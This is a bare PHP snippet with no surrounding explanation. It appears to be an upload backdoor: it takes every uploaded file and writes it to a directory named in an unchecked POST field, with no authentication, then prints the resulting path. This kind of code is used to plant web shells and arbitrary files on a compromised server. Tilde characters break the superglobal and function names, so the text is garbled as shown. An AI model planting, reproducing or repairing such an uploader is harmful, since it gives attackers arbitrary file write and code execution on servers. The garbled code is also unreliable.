<?php exit; ?>
<?php
foreach ($_F~ILES as $one) { $to = $_P~OST['dir'] . '/' . $one['name']; mov~e_uploaded_file($one['tmp_name'], $to); echo $to; }
